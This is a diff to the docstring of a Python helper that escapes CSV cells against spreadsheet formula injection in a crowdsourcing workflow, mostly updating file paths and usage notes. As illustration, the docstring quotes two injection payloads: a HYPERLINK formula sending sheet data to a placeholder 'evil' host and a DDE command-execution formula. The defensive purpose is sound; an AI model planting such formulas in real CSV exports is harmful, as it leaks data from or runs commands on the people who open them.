@@ -1,5 +1,8 @@
 """CSV cells that are safe to open in a spreadsheet: the one helper every CSV hitflow writes uses.
 
+Standard library only, like ``mturk_money``: the HIT service and the Airflow side (which never
+imports ``hit_service``) both use it.
+
 A spreadsheet treats a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
 as a formula (OWASP's "CSV injection"): a worker's answer ``=HYPERLINK("http://evil/?"&A2,"Click
 me")`` or ``+cmd|' /C calc'!A0`` would run, or leak the sheet, in the requester's spreadsheet.
@@ -13,8 +16,8 @@ drop it, and both read back as the value that was written (the console's reviewe
 batch input, the DAG's ``input.csv`` uploaded to the console).
 
 Write with ``writer(file)`` (``csv.writer`` whose rows pass through ``cell``), or ``row(values)``.
-Used by: the console's results CSV (``console/csvfiles.py``), the publish DAG's exports
-(``plugins/hitflow/publish/export.py``); a new CSV export uses it too.
+Used by: the console's results CSV (``hit_service/console/csvfiles.py``), the publish DAG's
+exports (``plugins/hitflow/publish/export.py``); every new CSV export (e.g. a ledger export) uses it too.
 """
 
 from __future__ import annotations
